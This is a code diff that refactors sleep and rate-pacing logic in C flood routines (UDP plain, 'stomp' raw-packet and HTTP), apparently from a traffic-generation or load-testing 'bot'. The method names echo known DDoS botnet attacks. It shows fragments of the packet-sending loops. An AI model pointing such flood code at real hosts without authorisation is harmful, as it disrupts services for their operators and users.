@@ -19,13 +19,6 @@
 #include <unistd.h>
 #include "bot.h"
 
-static void nap(uint64_t ns)
-{
-	struct timespec ts = { 0, (long)(ns > 50000000ull ? 50000000ull : ns) };
-
-	nanosleep(&ts, NULL);
-}
-
 static int bind_bot(int fd, uint32_t addr, uint16_t port)
 {
 	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = addr, .sin_port = htons(port) };
@@ -41,7 +34,7 @@ int bot_run_udpplain(struct bot *b)
 	struct vec_flow *f = calloc(n, sizeof(*f));
 	int *fd = malloc(n * sizeof(int));
 	uint8_t *buf = calloc(1, b->o.len + 1);
-	uint64_t idx = 0, wait;
+	uint64_t idx = 0;
 	int err = 0;
 	char a[INET_ADDRSTRLEN];
 
@@ -88,17 +81,14 @@ int bot_run_udpplain(struct bot *b)
 		}
 	}
 	while (b->sent < b->count) {
-		uint64_t now = raw_now_ns(), budget;
+		uint64_t now = raw_now_ns();
 		struct vec_flow *x;
 		ssize_t r;
 
 		if (now >= b->end_ns)
 			break;
-		budget = bot_budget(b, now, &wait);
-		if (budget <= b->sent) {
-			nap(wait ? wait : 10000);
+		if (!bot_due(b, now, 1))
 			continue;
-		}
 		i = (uint32_t)(idx % n);
 		x = &f[i];
 		if (b->o.rand)
@@ -110,7 +100,7 @@ int bot_run_udpplain(struct bot *b)
 			if (errno != ECONNREFUSED && errno != EAGAIN && errno != ENOBUFS && errno != EHOSTUNREACH)
 				b->errors++;
 			if (errno == EAGAIN || errno == ENOBUFS)
-				nap(20000);
+				bot_sleep_ns(20000);
 			continue;
 		}
 		botlog_add(&b->log, botlog_now_s(), x->local, x->host, 1, 28 + (uint64_t)b->o.len);
@@ -156,7 +146,7 @@ static int stomp_connect(struct bot *b, int rs, struct vec_flow *x)
 		to.sin_port = htons(dport);
 		if (connect(s, (struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS) {
 			close(s);
-			nap(100000000ull);
+			bot_sleep_ns(100000000ull);
 			continue;
 		}
 		getsockname(s, (struct sockaddr *)&me, &sl);
@@ -207,7 +197,7 @@ int bot_run_stomp(struct bot *b)
 	struct raw_sock *s = malloc(sizeof(*s));
 	size_t off = raw_inner_off(b->tunnel), len[RAW_BATCH];
 	struct vec_rand orng;
-	uint64_t idx = 0, wait;
+	uint64_t idx = 0;
 	char a[INET_ADDRSTRLEN];
 
 	if (!f || !fd || !s || !live) {
@@ -253,21 +243,14 @@ int bot_run_stomp(struct bot *b)
 	}
 	vec_rand_seed(&orng, b->seed, 0xFFFFFFFFFFull);
 	while (b->sent < b->count) {
-		uint64_t now = raw_now_ns(), budget, m;
+		uint64_t now = raw_now_ns(), m;
 		int serr;
 
 		if (now >= b->end_ns)
 			break;
-		budget = bot_budget(b, now, &wait);
-		if (budget <= b->sent) {
-			nap(wait ? wait : 10000);
+		m = bot_due(b, now, RAW_BATCH);
+		if (!m)
 			continue;
-		}
-		m = budget - b->sent;
-		if (m > b->count - b->sent)
-			m = b->count - b->sent;
-		if (m > RAW_BATCH)
-			m = RAW_BATCH;
 		for (uint64_t j = 0; j < m; j++, idx++) {
 			struct vec_flow *x = live[idx % ok];
 			uint32_t bi = (uint32_t)(ntohl(x->local) - b->src_base);
@@ -521,7 +504,7 @@ int bot_run_http(struct bot *b)
 			map[np++] = i;
 		}
 		if (!np) {
-			nap(wait ? wait : 1000000);
+			bot_sleep_ns(wait ? wait : 1000000);
 			continue;
 		}
 		if (poll(pf, (nfds_t)np, 20) <= 0)
